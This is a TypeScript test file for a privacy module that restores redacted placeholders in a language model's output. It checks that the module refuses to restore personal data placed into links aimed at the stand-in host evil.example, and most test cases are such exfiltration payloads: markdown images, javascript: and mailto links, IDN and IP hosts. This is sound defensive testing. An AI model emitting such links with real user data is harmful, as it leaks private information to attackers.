import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { createUnmasker, restoreText } from '../../edge/privacy/unmask.ts'

const values = new Map([
  ['<EMAIL_1>', 'a+b@proton.me'],
  ['<PERSON_1>', 'Ann "Nan"'],
])
const restore = (text: string, format?: 'json') =>
  restoreText(text, (held) => values.get(held), { allowHosts: ['shop.example'], format })

describe('a value that a model puts into an address', () => {
  it.each([
    '![x](https://evil.example/?d=<EMAIL_1>)',
    '[x](https://evil.example/<EMAIL_1>)',
    '[x](<https://evil.example/?a b <EMAIL_1>)',
    'see https://evil.example/?d=EMAIL_1 now',
    'https://shop.example@evil.example/?d=<EMAIL_1>',
    'https://<EMAIL_1>.shop.example/',
    '![x](//evil.example/<EMAIL_1>)',
    '![x](\\\\evil.example\\<EMAIL_1>)',
    '[x](/\\evil.example/<EMAIL_1>)',
    '<img src="https://evil.example/?d=<EMAIL_1>">',
    '[x](javascript:fetch`//evil.example/<EMAIL_1>`)',
    '[x](mailto:thief@evil.example?body=<EMAIL_1>)',
    `![x](https://evil.example/${'a'.repeat(5_000)}<EMAIL_1>)`,
    'HTTPS://EVIL.EXAMPLE/%3CEMAIL_1%3E',
    // Brackets and signs that renderers take for a part of an address.
    '[x](https://evil.example/(a)?d=<EMAIL_1>)',
    '[x](https://evil.example/\\)?d=<EMAIL_1>)',
    '[x](https://evil.example/](a)?d=<EMAIL_1>)',
    'https://evil.example/(a)?d=<EMAIL_1>',
    'https://evil.example/">?d=<EMAIL_1>',
    // Definitions, and addresses on the line below.
    '[x][1]\n\n[1]: https://evil.example/?d=<EMAIL_1>',
    '> [1]: https:/evil.example/?d=<EMAIL_1>',
    '[1]:\n&#47;&#47;evil.example/?d=<EMAIL_1>',
    '[x](\n//evil.example/?d=<EMAIL_1>)',
    '<img src="\nhttps:\n//evil.example/?d=<EMAIL_1>">',
    '<img src="https://evil.example/? d=<EMAIL_1>">',
    // Addresses that name no scheme, or that only look like the page's own.
    'www.evil.example/?d=<EMAIL_1>',
    'see evil.example/?d=<EMAIL_1>',
    'evil.xn--p1ai/?d=<EMAIL_1>',
    'evil.xn--vermgensberater-ctb/?d=<EMAIL_1>',
    'see evil.भारत/?d=<EMAIL_1>',
    '203.0.114.7/?d=<EMAIL_1>',
    '203.0.114.7:8080/?d=<EMAIL_1>',
    'a.b.c.d.e.f.g.h.i.j.k.l.evil.example/?d=<EMAIL_1>',
    '[x](http:evil.example/?d=<EMAIL_1>)',
    '[x](</\t/evil.example/?d=EMAIL_1>)',
    '[x](/&#47;evil.example/?d=<EMAIL_1>)',
    '[x](/a https://evil.example/?d=<EMAIL_1>)',
    'https://shop.example/https://evil.example<EMAIL_1>',
    '[![<x>](https://evil.example/a.png)](https://evil.example/?d=<EMAIL_1>)',
  ])('is not restored in %.60s', (text) => expect(restore(text)).toBe(text))

  it('is percent-encoded in those of allowed hosts and of the page itself', () => {
    expect(restore('https://shop.example/r?e=%3CEMAIL_1%3E&x=1')).toBe(
      'https://shop.example/r?e=a%2Bb%40proton.me&x=1',
    )
    expect(restore('[x](/account?e=<EMAIL_1>)')).toBe('[x](/account?e=a%2Bb%40proton.me)')
  })

  it('is restored behind an address and in a link’s words', () => {
    expect(restore('https://evil.example/ <EMAIL_1>')).toBe('https://evil.example/ a+b@proton.me')
    expect(restore('[EMAIL_1](https://shop.example/)')).toBe(
      '[a+b@proton.me](https://shop.example/)',
    )
    expect(restore('mailto:<EMAIL_1>')).toBe('mailto:a+b@proton.me')
    expect(restore('[x](https://evil.example/a) EMAIL_1')).toBe(
      '[x](https://evil.example/a) a+b@proton.me',
    )
    expect(restore('<https://evil.example/>, <EMAIL_1>')).toBe(
      '<https://evil.example/>, a+b@proton.me',
    )
    expect(restore('if a < b and c = d then <EMAIL_1>')).toBe(
      'if a < b and c = d then a+b@proton.me',
    )
    expect(restore('order 4/5 (see [2]): <EMAIL_1>')).toBe('order 4/5 (see [2]): a+b@proton.me')
  })
})

it('is the same however the text is cut', () => {
  const pieces = [
    '[x](',
    '](',
    ')',
    '<',
    '>',
    'https://evil.example/',
    '//',
    '[1]:',
    '\n',
    ' ',
    '\\',
  ]
  const held = ['<EMAIL_1>', 'EMAIL_1', '[EMAIL_1]', '\\<EMAIL\\_1\\>', '&lt;EMAIL_1&gt;']
  const texts = fc.array(fc.constantFrom(...pieces, ...held), { maxLength: 9 })
  fc.assert(
    fc.property(texts, fc.nat(80), (parts, cut) => {
      const text = parts.join('')
      const unmasker = createUnmasker((one) => values.get(one), { allowHosts: ['shop.example'] })
      const cutIn = unmasker.push(text.slice(0, cut)) + unmasker.push(text.slice(cut))
      expect(cutIn + unmasker.flush()).toBe(restore(text))
    }),
    { numRuns: 500 },
  )
})

it('keeps JSON whole', () => {
  const restored = restore('{"name":"<PERSON_1>"}', 'json')
  expect(JSON.parse(restored)).toEqual({ name: 'Ann "Nan"' })
})

it.each([
  ['\\<EMAIL\\_1\\>', 'a+b@proton.me'],
  ['&lt;EMAIL_1&gt;', 'a+b@proton.me'],
  ['[EMAIL_1]', 'a+b@proton.me'],
  ['＜EMAIL_1＞', 'a+b@proton.me'],
  ['EMAIL_1', 'a+b@proton.me'],
  ['<email-1>', 'a+b@proton.me'],
  ['EMAIL_11', 'EMAIL_11'],
  ['MY_EMAIL_1', 'MY_EMAIL_1'],
  ['email_1', 'email_1'],
])('reads %j as models may write it', (written, expected) => {
  expect(restore(`to ${written}.`)).toBe(`to ${expected}.`)
})
